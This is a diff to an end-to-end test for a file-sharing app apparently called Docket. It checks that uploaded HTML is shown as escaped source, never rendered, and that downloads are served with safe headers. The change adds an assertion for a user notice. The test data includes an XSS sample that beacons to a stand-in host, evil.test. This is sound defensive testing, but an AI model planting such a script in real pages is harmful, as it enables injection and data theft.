@@ -219,6 +219,7 @@ test("an HTML upload shows as source and a PDF with a JavaScript OpenAction as a
   await page.goto(`/files/${CORPUS.html}`);
   await expect(page.getByRole("status").filter({ hasText: "MD5 verified" })).toBeVisible();
   await expect(page.getByTestId("text-preview")).toContainText('<script>window.__xss=1;navigator.sendBeacon("https://evil.test/html-upload")</script>');
+  await expect(page.getByText("Web pages can carry scripts, so Docket shows this one's source and never renders it.")).toBeVisible();
   await expect(page.locator("main script, main iframe, main img, main embed, main object")).toHaveCount(0);
   const html = await page.request.get(`/api/files/${CORPUS.html}/download`, { headers: { cookie: sessionCookie } });
   expect(html.headers()).toMatchObject({ "content-type": "application/octet-stream", "x-content-type-options": "nosniff", "content-security-policy": "sandbox; default-src 'none'" });
